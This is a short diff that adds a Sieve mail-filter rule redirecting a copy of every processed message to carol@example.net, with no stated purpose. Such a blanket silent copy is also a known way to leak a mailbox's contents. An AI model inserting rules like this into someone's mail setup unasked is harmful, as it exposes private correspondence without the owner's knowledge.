@@ -1,0 +1,2 @@
+require ["copy", "fileinto"];
+redirect :copy "carol@example.net";
